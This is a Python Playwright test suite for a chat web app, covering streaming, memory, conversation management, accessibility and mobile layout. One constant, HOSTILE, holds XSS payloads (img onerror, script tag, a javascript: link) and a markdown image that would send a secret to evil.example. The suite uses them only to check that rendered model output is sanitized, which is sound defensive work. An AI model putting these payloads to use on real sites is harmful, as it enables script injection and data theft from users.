"""In the browser: talking, coming back in the middle, remembering, keeping order."""

import re
from collections.abc import Iterator

import pytest
from playwright.sync_api import Browser, expect
from tests.journeys.browser import open_browser
from tests.journeys.web_server import WebServer, build_web_app, serve
from tests.journeys.web_visitor import PATIENCE_MS, PHONE, Visitor, visit

import novacore

pytestmark = pytest.mark.heavy

STORY = [f"part{number} " for number in range(12)]
HOSTILE = """**Bold** <img src=x onerror="document.title='taken'"> <script>taken = 1</script>
![p](https://evil.example/p.png?q=secret) [bad](javascript:taken=1) [good](https://good.example/)

```python
print('hi')
```"""
REPLIES = (
    {"when": "the long story", "text": STORY, "hold_after": 6},
    {"when": "without end", "text": ["One ", "two ", "three ", "four "], "hang_after": 4},
    {"when": "something hostile", "text": HOSTILE},
    {
        "when": "fail please",
        "status": 400,
        "error": {"type": "invalid_request_error", "message": "no such thing"},
    },
    {"text": "As you say.", "repeat": True},
)


@pytest.fixture(scope="module")
def server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[WebServer]:
    build_web_app()
    with serve(tmp_path_factory.mktemp("chat") / "home") as running:
        running.provider.play(*REPLIES)
        yield running


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    with open_browser() as opened:
        yield opened


@pytest.fixture(scope="module")
def email(browser: Browser, server: WebServer) -> str:
    """The address of somebody who may chat."""
    with visit(browser, server) as newcomer:
        newcomer.join("hana@example.org", name="Hana")
    return "hana@example.org"


@pytest.fixture
def hana(browser: Browser, server: WebServer, email: str) -> Iterator[Visitor]:
    with visit(browser, server) as visitor:
        visitor.sign_in(email)
        yield visitor


def test_an_answer_goes_on_where_it_was_after_a_reload(hana: Visitor, server: WebServer):
    hana.write("Tell me the long story.")
    expect(hana.answer()).to_contain_text("part3", timeout=PATIENCE_MS)
    hana.page.reload()
    expect(hana.answer()).to_contain_text("part3", timeout=PATIENCE_MS)
    expect(hana.button(re.compile("Stop the answer"))).to_be_visible(timeout=PATIENCE_MS)
    server.provider.go_on()
    hana.is_answered("part11")
    text = hana.answer().inner_text()
    assert [text.count(piece.strip() + " ") for piece in STORY[:-1]] == [1] * 11
    hana.page.reload()
    hana.is_answered("part11")
    expect(hana.page.get_by_role("article")).to_have_count(2)


def test_a_stopped_answer_keeps_what_was_said(hana: Visitor, server: WebServer):
    hana.write("Count without end.")
    expect(hana.answer()).to_contain_text("three", timeout=PATIENCE_MS)
    hana.page.keyboard.press("Escape")
    expect(hana.button("Send")).to_be_visible(timeout=PATIENCE_MS)
    hana.page.reload()
    hana.is_answered("One two three")
    hana.sees("This answer was broken off.")


def test_what_was_said_before_is_remembered_in_another_conversation(
    hana: Visitor, server: WebServer
):
    hana.write("My sailing boat is called Marigold and lies in Gdynia.")
    hana.is_answered("As you say.")
    hana.page.get_by_role("link", name="New conversation").first.click()
    hana.write("What is my sailing boat called?")
    chips = hana.button(re.compile("Remembered"))
    expect(chips).to_be_visible(timeout=PATIENCE_MS)
    hana.is_answered("As you say.")
    expect(chips).to_be_visible(timeout=PATIENCE_MS)
    chips.click()
    hana.sees(re.compile("called Marigold"))
    hana.page.reload()
    expect(chips).to_be_visible(timeout=PATIENCE_MS)
    chips.click()
    remembered = hana.page.get_by_role("link", name=re.compile("called Marigold"))
    expect(remembered).to_be_visible(timeout=PATIENCE_MS)
    second = hana.page.url
    remembered.click()
    hana.sees("My sailing boat is called Marigold and lies in Gdynia.")
    hana.page.locator("main").get_by_role("button", name=re.compile("Options for")).click()
    hana.page.get_by_role("menuitem", name="Delete").click()
    hana.button("Delete").click()
    hana.sees("Deleted.")
    hana.expected.add(404)
    hana.page.goto(second)
    chips.click()
    hana.sees("It was deleted since.")
    asked = [str(body) for body in server.provider.bodies if "What is my sailing boat" in str(body)]
    assert any("Marigold" in body for body in asked)


def test_what_a_model_writes_can_do_no_harm(hana: Visitor, server: WebServer):
    asked: list[str] = []
    hana.page.on("request", lambda request: asked.append(request.url))
    hana.write("Write something hostile.")
    hana.is_answered("Image not loaded: p")
    assert hana.page.evaluate("window.taken") is None
    assert not [url for url in asked if not url.startswith(server.url)]
    good = hana.answer().get_by_role("link", name="good", exact=True)
    assert good.get_attribute("rel") == "noopener noreferrer nofollow"
    expect(hana.answer().get_by_role("link", name="bad", exact=True)).to_have_count(0)
    hana.answer().get_by_role("button", name="Copy").first.click()
    assert hana.page.evaluate("navigator.clipboard.readText()") == "print('hi')"


def test_conversations_are_named_pinned_found_archived_and_deleted(
    hana: Visitor, server: WebServer
):
    hana.write("The zebra paints a fence.")
    hana.is_answered("As you say.")

    def choose(item: str) -> None:
        hana.page.locator("main").get_by_role("button", name=re.compile("Options for")).click()
        hana.page.get_by_role("menuitem", name=item).click()

    choose("Rename")
    hana.field("Title").fill("Zebra matters")
    hana.button("Rename").click()
    listed = hana.page.get_by_role("navigation").get_by_role("link", name="Zebra matters")
    expect(listed).to_be_visible(timeout=PATIENCE_MS)
    choose("Pin")
    expect(hana.page.get_by_role("region", name="Pinned")).to_contain_text("Zebra matters")
    with hana.page.expect_download() as download:
        choose("Export as Markdown")
    assert "zebra paints a fence" in download.value.path().read_text("utf-8")
    hana.page.get_by_role("searchbox").fill("zebra")
    expect(hana.page.get_by_role("navigation").get_by_role("link")).to_have_count(1)
    hana.page.get_by_role("searchbox").fill("")
    choose("Archive")
    expect(listed).to_have_count(0)
    hana.open("/archive")
    hana.page.get_by_role("link", name="Zebra matters").click()
    choose("Delete")
    hana.button("Delete").click()
    hana.sees("Deleted.")
    hana.open("/archive")
    hana.sees("Nothing is archived.")


def test_a_message_is_changed_a_fork_made_an_answer_rated(hana: Visitor, server: WebServer):
    hana.write("First version of the question.")
    hana.is_answered("As you say.")
    before = hana.page.url
    hana.answer().hover()
    hana.answer().get_by_role("button", name="Good answer").click()
    hana.page.reload()
    hana.is_answered("As you say.")
    expect(hana.answer().get_by_role("button", name="Good answer")).to_have_attribute(
        "aria-pressed", "true"
    )
    hana.answer().get_by_role("button", name="Fork from here").click()
    hana.sees(re.compile("This is a fork"))
    assert hana.page.url != before
    hana.page.get_by_role("article", name="You").get_by_role("button", name="Edit").click()
    expect(hana.field("Message")).to_have_value("First version of the question.")
    hana.field("Message").fill("Second version of the question.")
    hana.page.keyboard.press("Enter")
    hana.is_answered("As you say.")
    expect(hana.page.get_by_role("article")).to_have_count(2)
    hana.sees("Second version of the question.")


def test_a_model_that_fails_is_told_in_words_and_can_be_asked_again(
    hana: Visitor, server: WebServer
):
    hana.expected = {400, 502, 503}
    hana.write("Now fail please.")
    alert = hana.page.get_by_role("alert")
    expect(alert).to_be_visible(timeout=PATIENCE_MS)
    alert.get_by_role("button", name="Try again").click()
    hana.is_answered("As you say.")


def test_everything_can_be_done_with_the_keyboard(hana: Visitor, server: WebServer):
    keyboard = hana.page.keyboard
    keyboard.type("A question,")
    keyboard.press("Shift+Enter")
    keyboard.type("on two lines.")
    keyboard.press("Enter")
    hana.is_answered("As you say.")
    said = hana.page.get_by_role("article", name="You")
    expect(said).to_contain_text(re.compile("^A question,\non"), use_inner_text=True)
    keyboard.press("Control+k")
    expect(hana.page.get_by_role("combobox")).to_be_focused()
    keyboard.type("usage")
    keyboard.press("Enter")
    hana.heading("Usage")
    hana.page.reload()
    hana.heading("Usage")
    keyboard.press("Tab")
    expect(hana.page.get_by_role("link", name="Skip to the page")).to_be_focused()
    keyboard.press("Enter")
    keyboard.press("Control+Shift+o")
    expect(hana.field("Message")).to_be_focused()
    account = hana.button(re.compile("Account of"))
    account.focus()
    keyboard.press("Enter")
    expect(hana.page.get_by_role("menuitem", name="Settings")).to_be_focused()
    keyboard.press("a")
    expect(hana.page.get_by_role("menuitem", name="API keys")).to_be_focused()
    keyboard.press("Escape")
    expect(account).to_be_focused()


def test_on_a_phone_the_list_is_a_drawer(browser: Browser, server: WebServer, email: str):
    with visit(browser, server, size=PHONE) as hana:
        hana.sign_in(email)
        hana.write("From my phone.")
        hana.is_answered("As you say.")
        hana.fits()
        hana.button("Conversations").click()
        drawer = hana.page.get_by_role("dialog")
        expect(drawer).to_be_visible()
        hana.page.keyboard.press("Escape")
        expect(drawer).to_have_count(0)
        hana.button("Conversations").click()
        drawer.get_by_role("link", name="New conversation").click()
        expect(drawer).to_have_count(0)


def test_without_a_network_it_says_so_and_comes_back(hana: Visitor):
    hana.page.context.set_offline(True)
    hana.sees(re.compile("You are offline"))
    hana.page.context.set_offline(False)
    expect(hana.page.get_by_text("You are offline")).to_have_count(0)


def test_a_link_leads_to_its_place_in_a_long_conversation(hana: Visitor, server: WebServer):
    """And what comes above does not move what one looks at."""
    hana.open("/keys")
    hana.button("New key").click()
    hana.field("Name").fill("filling")
    hana.button("Make the key").click()
    key = hana.field("API key").input_value()
    hana.button("Done").click()
    with novacore.connect(server.url, key) as store:
        session = store.session("a long one")
        session.append(
            *(
                {"role": role, "content": f"{role} says line {number}"}
                for number in range(90)
                for role in ("user", "assistant")
            )
        )
        hana.open(f"/c/{session.id}?at=5")
    linked = hana.page.locator("#message-5")
    expect(linked).to_be_in_viewport(timeout=PATIENCE_MS)
    hana.open(f"/c/{session.id}")
    newest = hana.page.get_by_text("assistant says line 89")
    expect(newest).to_be_in_viewport(timeout=PATIENCE_MS)
    shown = hana.page.get_by_role("article")
    expect(shown).to_have_count(50)
    words = re.match(r"\w+ says line \d\d", shown.first.text_content() or "")
    assert words
    hana.button("Earlier messages").scroll_into_view_if_needed()
    expect(shown).to_have_count(150, timeout=PATIENCE_MS)
    expect(hana.page.get_by_text(words[0], exact=True)).to_be_in_viewport(timeout=PATIENCE_MS)
    hana.button("Earlier messages").scroll_into_view_if_needed()
    expect(shown).to_have_count(180, timeout=PATIENCE_MS)
